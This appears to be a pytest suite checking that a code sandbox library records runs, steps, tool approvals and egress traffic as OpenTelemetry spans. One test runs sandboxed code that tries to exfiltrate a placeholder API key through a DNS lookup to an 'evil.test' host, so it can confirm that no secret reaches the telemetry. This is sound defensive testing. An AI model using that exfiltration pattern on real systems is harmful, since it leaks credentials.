"""What a run, a step and all that crosses the wall are as spans, in the SDK that an application has configured."""

from __future__ import annotations

import sys
import weakref
from collections.abc import Iterator
from pathlib import Path

import pytest
from opentelemetry import trace
from opentelemetry.sdk.trace import ReadableSpan
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter
from opentelemetry.trace import SpanKind, StatusCode
from tests.support.loopback import answer, serving
from tests.telemetry.spans import attributes_of, context_of, named, within

from casemate import ApprovalRequest, Sandbox
from casemate.telemetry.rows import observe

SERVER = Path(__file__).parents[1] / "brokered" / "witness_server.py"
GET = "import urllib.request\nprint(urllib.request.urlopen('http://{}', timeout=10).read().decode())\n"
SECRET = "sk-4tS9-notatreal-w8Qz7"


@pytest.fixture
def spans(exporter: InMemorySpanExporter) -> InMemorySpanExporter:
    """Those of one test."""
    exporter.clear()
    return exporter


@pytest.fixture
def port() -> Iterator[int]:
    """Of a web server on the loopback."""
    with serving(lambda request: answer(request, b"from the host")) as one:
        yield one


def times_of(span: ReadableSpan) -> tuple[int, int]:
    assert span.start_time is not None
    assert span.end_time is not None
    return span.start_time, span.end_time


async def test_a_run_is_within_its_caller_and_has_its_queue_its_start_and_its_collection(
    spans: InMemorySpanExporter, tmp_path: Path
) -> None:
    with trace.get_tracer("agent").start_as_current_span("thinking") as caller:
        async with Sandbox(audit=tmp_path / "audit.db") as sandbox:
            execution = await sandbox.run("open('left.txt', 'w').write('x')")
    found = spans.get_finished_spans()
    run = named(found, "run python")
    assert run.parent == caller.get_span_context()
    assert attributes_of(run) == {
        "casemate.run": execution.id, "casemate.namespace": "default", "casemate.kind": "run",
        "casemate.language": "python", "casemate.wall": "native", "casemate.status": "ok", "process.exit.code": 0,
        "casemate.cpu_seconds": execution.usage.cpu_seconds, "casemate.peak_memory": execution.usage.peak_memory,
    }  # fmt: skip
    queue, start, collection = within(found, run)
    assert [one.name for one in (queue, start, collection)] == ["queue", "start", "collection"]
    assert attributes_of(start)["casemate.start"] == execution.isolation.start
    began, ended = times_of(run)
    assert began == times_of(queue)[0] <= times_of(queue)[1] == times_of(start)[0]
    assert times_of(start)[0] < times_of(start)[1] <= times_of(collection)[0] < times_of(collection)[1] == ended


async def test_each_step_is_a_span_and_the_first_alone_starts_a_cell(
    spans: InMemorySpanExporter, tmp_path: Path
) -> None:
    async with Sandbox(audit=tmp_path / "audit.db") as sandbox, sandbox.session("shell") as session:
        for code in ("echo 1", "false"):
            await session.run(code)
    first, second = [one for one in spans.get_finished_spans() if one.name == "step shell"]
    assert (first.parent, second.parent) == (None, None)
    assert context_of(first).trace_id != context_of(second).trace_id
    assert [attributes_of(one)["casemate.session"] for one in (first, second)] == [session.id] * 2
    parts = [[part.name for part in within(spans.get_finished_spans(), one)] for one in (first, second)]
    assert parts == [["queue", "start", "collection"], ["queue", "collection"]]
    assert (second.status.status_code, attributes_of(second)["error.type"]) == (StatusCode.ERROR, "failed")


async def test_an_answer_and_the_calls_that_it_allowed_are_within_the_run_also_at_the_server(
    spans: InMemorySpanExporter, tmp_path: Path
) -> None:
    async def approve(request: ApprovalRequest) -> bool:
        return request.tool == "note"

    code = (
        "from mcptools import ToolError\nfrom mcptools.w import fail, note\nnote.run(text='x')\n"
        "try:\n    fail.run(text='x')\nexcept ToolError as error:\n    print(error.kind)\n"
    )
    server = {"command": sys.executable, "args": [str(SERVER), str(tmp_path / "calls")]}
    async with Sandbox(audit=tmp_path / "audit.db", tools={"w": server}, approve=approve) as sandbox:
        execution = await sandbox.run(code)
    assert execution.stdout == "denied\n"
    found = spans.get_finished_spans()
    run = named(found, "run python")
    answers = [one for one in within(found, run) if one.name == "approval"]
    assert [attributes_of(one) for one in answers] == [
        {"casemate.kind": "tool", "casemate.decision": word} for word in ("allowed", "denied")
    ]
    call = named(found, "execute_tool note")
    assert call.parent == context_of(run)
    assert (call.kind, attributes_of(call)) == (SpanKind.CLIENT, {
        "gen_ai.operation.name": "execute_tool", "gen_ai.tool.name": "note", "mcp.method.name": "tools/call",
        "casemate.server": "w", "casemate.outcome": "ok",
    })  # fmt: skip
    assert times_of(answers[0])[1] <= times_of(call)[1]
    # What the MCP SDK says of the same call, and what it tells the server, belongs to it.
    assert named(found, "MCP send tools/call note").parent == context_of(run)


async def test_what_went_through_the_egress_proxy_and_what_was_refused_are_within_the_run(
    spans: InMemorySpanExporter, tmp_path: Path, port: int
) -> None:
    code = (
        GET.format(f"host.casemate.internal:{port}") + "import socket\n"
        "try:\n    socket.create_connection(('nowhere.test', 80))\nexcept OSError:\n    print('refused')\n"
    )
    async with Sandbox(audit=tmp_path / "audit.db", allow_local=[port]) as sandbox:
        execution = await sandbox.run(code)
    assert execution.stdout == "from the host\nrefused\n"
    found = spans.get_finished_spans()
    told = {attributes_of(one)["server.address"]: one for one in found if one.name == "egress"}
    assert {one.parent.span_id for one in told.values() if one.parent} == {
        context_of(named(found, "run python")).span_id
    }
    reached, refused = told["host.casemate.internal"], told["nowhere.test"]
    (crossing,) = [one for one in execution.crossings if one.is_reached]
    assert attributes_of(reached) == {
        "server.address": "host.casemate.internal", "server.port": port, "casemate.decision": "allowed",
        "casemate.connections": 1, "casemate.bytes_out": crossing.bytes_out, "casemate.bytes_in": crossing.bytes_in,
    }  # fmt: skip
    assert crossing.bytes_in > 0
    assert (refused.status.status_code, attributes_of(refused)["error.type"]) == (StatusCode.ERROR, "denied")


async def test_va_16_no_code_no_output_no_argument_and_no_secret_is_in_any_span(
    spans: InMemorySpanExporter, tmp_path: Path
) -> None:
    code = (
        "import os, socket\nkey = os.environ['API_KEY']\nprint('shown', key)\n"
        "from mcptools import ToolError\nfrom mcptools.w import fail\n"
        "try:\n    fail.run(text='given' + key)\nexcept ToolError:\n    pass\n"
        "try:\n    socket.getaddrinfo(f'{key}.evil.test', 80)\nexcept OSError:\n    pass\n"
        "raise type('Raised' + key.replace('-', '_'), (Exception,), {})('said')\n"
    )
    server = {"command": sys.executable, "args": [str(SERVER), str(tmp_path / "calls")]}
    async with Sandbox(audit=tmp_path / "audit.db", tools={"w": server}, approve=lambda _: True) as sandbox:
        await sandbox.vault.set("API_KEY", SECRET)
        execution = await sandbox.run(code, secrets=["API_KEY"], arguments=["worded"], metadata={"who": "owner"})
    assert execution.status == "failed"
    found = spans.get_finished_spans()
    assert attributes_of(named(found, "run python"))["error.type"] == "failed"
    named(found, "execute_tool fail")
    said = "".join(one.to_json() for one in found)
    absent = (SECRET, SECRET.replace("-", "_"), "getaddrinfo", "shown", "given", "Raised", "said", "worded", "owner")
    assert [word for word in absent if word in said] == []


def test_a_program_that_calls_tools_without_end_has_no_more_spans_than_is_said(spans: InMemorySpanExporter) -> None:
    observe("intent", "r", "default", {"language": "python", "wall": "native"})
    for _ in range(1500):
        call = {"kind": "tool", "server": "w", "tool": "note", "outcome": "ok", "seconds": 0.001}
        observe("crossing", "r", "default", call)
    observe("outcome", "r", "default", {"status": "ok"})
    assert len([one for one in spans.get_finished_spans() if one.name == "execute_tool note"]) == 1000


def test_what_a_program_asked_with_is_not_kept_until_its_end(spans: InMemorySpanExporter) -> None:
    class Arguments(dict[str, str]):
        """Which can be looked after."""

    given = Arguments(text="x" * 1_000_000)
    there = weakref.ref(given)
    observe("intent", "run", "default", {"language": "python"})
    asked = {"request": "1", "kind": "tool", "server": "s", "tool": "t", "arguments": given}
    observe("request", "run", "default", asked)
    observe("decision", "run", "default", {**asked, "decision": "denied"})
    del given, asked
    assert there() is None
    observe("outcome", "run", "default", {"status": "ok", "duration": 0.1})
    (approval,) = (span for span in spans.get_finished_spans() if span.name == "approval")
    assert attributes_of(approval)["casemate.decision"] == "denied"


async def test_a_run_that_is_cancelled_is_an_error_that_ends(spans: InMemorySpanExporter, tmp_path: Path) -> None:
    async with Sandbox(audit=tmp_path / "audit.db") as sandbox:
        run = sandbox.start("print('on', flush=True)\nwhile True: pass")
        async for _ in run.stream():
            break
        await run.cancel()
    assert attributes_of(named(spans.get_finished_spans(), "run python"))["error.type"] == "cancelled"
